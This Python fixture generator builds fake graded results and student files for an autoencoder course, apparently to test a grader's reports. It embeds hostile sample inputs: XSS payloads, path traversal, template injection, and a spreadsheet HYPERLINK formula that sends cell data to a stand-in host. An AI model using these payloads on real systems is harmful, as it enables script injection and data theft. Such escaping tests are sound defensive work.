"""A class that was never graded: synthetic result documents and sources.

The checks are the rubric's; who passes which is drawn, stronger students more
often. It costs no TensorFlow, so that a class may have 10,000 students.
"""
import copy
import json
import random
import tempfile
import types

from checkers.course import curriculum
from checkers.judging import grading
from checkers.selftest.course import COURSE

RUNTIME = {'python': '3.11.7', 'tensorflow': '2.21.0', 'keras': '3.15.1',
           'sandbox': 'bubblewrap'}
# Each with two numbers that differ from student to student.
MESSAGES = (
    'For autoencoder(784, [128, 64], 32) the decoder has %d layers; expected '
    '%d.',
    'The loss of a known batch is 0.%d; binary cross-entropy gives 0.%d.',
    'pycodestyle finds %d things: line %d: E501 line too long.',
    'Line %d imports `numpy` and line %d `os`; only tensorflow.keras is '
    'allowed.',
    '`</code><script>alert(%d)</script>` & "quotes" --> \'&lt;%d\' ]]>')
# Names as a folder may have them.
HOSTILE = ('<script>alert(1)</script>', '"><img src=x onerror=alert(2)>',
           "' onmouseover='alert(3)", '\u202egnp.exe', 'x' * 3000,
           '=HYPERLINK("http://there.example/?" & A1)', '+1', '@SUM(A1)',
           'a;=1+1', 'b\t=1+1', '\u674e\u5c0f\u9f8d', '{{ 7 * 7 }}',
           '../../../index', 'javascript:alert(4)')
COMMENT = '# </mark></pre><script>alert(5)</script> \u202e'
INTEGRITY = 'line 3: imports socket'
HINTS = ['Which layer comes first in the decoder?',
         'Look at the loop over `hidden_layers`.']
TABLE = [['layer', 'expected', 'found', 'line'],
         ['hidden 1', '64', '128', '31'], ['hidden 2', '128', '64', '31']]
CURVE = [.693 - .02 * step for step in range(12)]


def blank():
    """Return the result document of an empty submission."""
    with tempfile.TemporaryDirectory() as folder:
        return grading.grade(folder, types.SimpleNamespace(runtime=RUNTIME))


def drawn(document, name, rng):
    """Return a student's document: a blank one, its marks drawn."""
    document = copy.deepcopy(document)
    document['submission'] = name
    strength = rng.gauss(1.2, 1)
    for task in document['tasks']:
        if rng.random() < .2:
            continue
        for place, check in enumerate(task['checks']):
            draw(check, strength + .2 * place - rng.gauss(1.5, 1), place, rng)
        task['status'] = 'passed' if all(
            check['status'] == 'passed' for check in task['checks']
            ) else 'failed'
        task['score'] = sum(check['points'] for check in task['checks'])
        if rng.random() < .1:
            task['integrity'] = [INTEGRITY]
    document['score'] = sum(task['score'] for task in document['tasks'])
    return document


def draw(check, margin, place, rng):
    """Let a check pass by a margin, or fail with a message."""
    check.update(hints=[], table=[], curve=[])
    if margin > 0:
        check.update(status='passed', points=check['max_points'], message='')
    elif margin < -2.5:
        check.update(status='blocked', message='the models could not be run')
    else:
        message = MESSAGES[place % len(MESSAGES)]
        check.update(
            status='failed', hints=HINTS, message=message % (
                rng.randrange(10, 999), rng.randrange(10, 999)),
            table=TABLE if place % 4 == 0 else [],
            curve=CURVE if place % 4 == 1 else [])


def write(folder, count, names=(), seed=0, sources=False):
    """Write a class as `grade` does.

    Args:
        folder: pathlib.Path, to be made.
        count: how many students.
        names: the first ones' names, as found.
        seed: from which the marks are drawn.
        sources: whether to write the students' files as well.

    Returns:
        The folder.
    """
    rng, document = random.Random(seed), blank()
    (folder / 'results').mkdir(parents=True)
    for place in range(count):
        stem = 'student-%05d' % place
        name = names[place] if place < len(names) else stem
        path = folder / 'results' / (stem + '.json')
        path.write_text(json.dumps(drawn(document, name, rng), indent=1))
        if sources:
            # The second student's answers are the first one's.
            write_sources(folder / 'sources' / stem,
                          random.Random(seed) if place < 2 else rng)
    return folder


def write_sources(folder, rng):
    """Write a student's files: the references with lines of their own."""
    folder.mkdir(parents=True)
    for task in curriculum.TASKS:
        lines = (COURSE / task.file).read_text().splitlines()
        lines += [COMMENT] + [
            '%s = %s(%d).%s()' % (
                *rng.choices('abcde', k=2), rng.randrange(9),
                rng.choice(['map', 'get', 'sum', 'cut']))
            for _ in range(rng.randrange(4, 16))]
        (folder / task.file).write_text('\n'.join(lines) + '\n')
